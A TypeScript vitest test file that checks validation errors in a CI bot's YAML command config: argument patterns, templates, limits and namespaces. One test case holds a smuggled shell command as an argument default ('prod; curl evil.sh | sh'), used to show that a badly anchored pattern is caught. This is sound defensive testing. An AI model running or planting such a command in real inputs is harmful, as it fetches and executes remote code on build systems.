import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { ConfigError, loadConfigFile, parseConfig } from "../../src/config/load-config.js";

const minimal = (command: string) => `commands:\n  build:\n${command.replace(/^/gm, "    ")}\n`;
const good = `description: Build it
args:
  - { name: tag, pattern: "^[a-z]+$", default: "x", description: Tag }
pipeline:
  pipelineRef: { name: build-image }
  params: { TAG: "{{args.tag}}" }`;

function problems(text: string): string[] {
  try {
    parseConfig(text, "mario.yaml");
  } catch (error) {
    expect(error).toBeInstanceOf(ConfigError);
    return (error as ConfigError).problems;
  }
  throw new Error("config was accepted");
}

describe("config", () => {
  it("loads the default config/mario.yaml with the build command", () => {
    const config = loadConfigFile();
    const build = config.commands.build!;
    expect(build.permission).toBe("write");
    expect(build.args.map((a) => a.name)).toEqual(["target", "tag", "context", "dockerfile"]);
    expect(build.args.find((a) => a.name === "tag")?.default).toBe("pr-{{pr.number}}");
    expect(config.defaults.namespace).toBe("mario");
    expect(config.limits).toEqual({ maxCommentBytes: 65536, maxCommandsPerComment: 20, maxArgLength: 256, maxArgsPerCommand: 16 });
    expect(parseConfig("limits: { maxArgsPerCommand: 4 }").limits.maxArgsPerCommand).toBe(4);
    expect(parseConfig("{}").limits.maxArgsPerCommand).toBe(16);
  });

  it("reads MARIO_CONFIG's file and names it in errors", () => {
    const dir = mkdtempSync(join(tmpdir(), "mario-config-"));
    const file = join(dir, "bad.yaml");
    writeFileSync(file, minimal(good.replace("build-image", "Bad_Name")));
    expect(() => loadConfigFile(file)).toThrow(new RegExp(`Invalid mario config ${file.replace(/[/.]/g, "\\$&")}`));
    expect(() => loadConfigFile(join(dir, "missing.yaml"))).toThrow(/missing\.yaml:\n {2}- cannot be read: ENOENT/);
  });

  it("accepts a valid command", () => {
    expect(parseConfig(minimal(good)).commands.build?.pipeline.params).toEqual({ TAG: "{{args.tag}}" });
  });

  it.each([
    ["an unknown key", minimal(`${good}\nfrobnicate: true`), 'commands.build: unknown key "frobnicate"'],
    ["an unanchored pattern", minimal(good.replace('"^[a-z]+$"', '"[a-z]+"')), "commands.build.args[0].pattern: must be anchored with ^ and $"],
    ["an invalid regex", minimal(good.replace('"^[a-z]+$"', '"^[a-z+$"')), "commands.build.args[0].pattern: is not a valid regular expression"],
    ["a default that matches only part of an alternation", minimal(good.replace('"^[a-z]+$"', '"^prod|staging$"').replace('default: "x"', 'default: "prod; curl evil.sh | sh"')), 'commands.build.args[0].default: "prod; curl evil.sh | sh" does not match its own pattern ^prod|staging$'],
    ["a default that fails its pattern", minimal(good.replace('default: "x"', 'default: "X1"')), 'commands.build.args[0].default: "X1" does not match its own pattern'],
    ["a template naming an undeclared argument", minimal(good.replace("{{args.tag}}", "{{args.image}}")), 'commands.build.pipeline.params.TAG: unknown template variable {{args.image}} (declare an argument named "image")'],
    ["an unknown template variable", minimal(good.replace("{{args.tag}}", "{{pr.title}}")), "commands.build.pipeline.params.TAG: unknown template variable {{pr.title}}"],
    ["a bad pipelineRef", minimal(good.replace("{ name: build-image }", "{ resolver: svn, params: {} }")), "commands.build.pipeline.pipelineRef: must be either"],
    ["a bad timeout", minimal(`${good}\n  timeouts: { pipeline: "1 hour" }`), "commands.build.pipeline.timeouts.pipeline: must be a Go duration"],
    ["a limit out of range", "limits: { maxArgsPerCommand: 0 }\n", "limits.maxArgsPerCommand: Too small"],
    ["a bad permission", minimal(`${good}\npermission: owner`), "commands.build.permission:"],
    ["a reserved verb", "commands:\n  help:\n" + good.replace(/^/gm, "    "), 'commands.help: "help" is a built-in command'],
    ["a namespace that is not a DNS label", `defaults: { namespace: Mario_CI }\n${minimal(good)}`, "defaults.namespace: must be a DNS-1123 label"],
    ["a duplicated YAML key", "defaults: {}\ndefaults: {}\n", "line 2: Map keys must be unique"],
    ["YAML syntax errors", "commands: [\n", "line 2: Flow sequence"],
  ])("rejects %s with the path and the problem", (_name, text, expected) => {
    expect(problems(text).join("\n")).toContain(expected);
  });
});
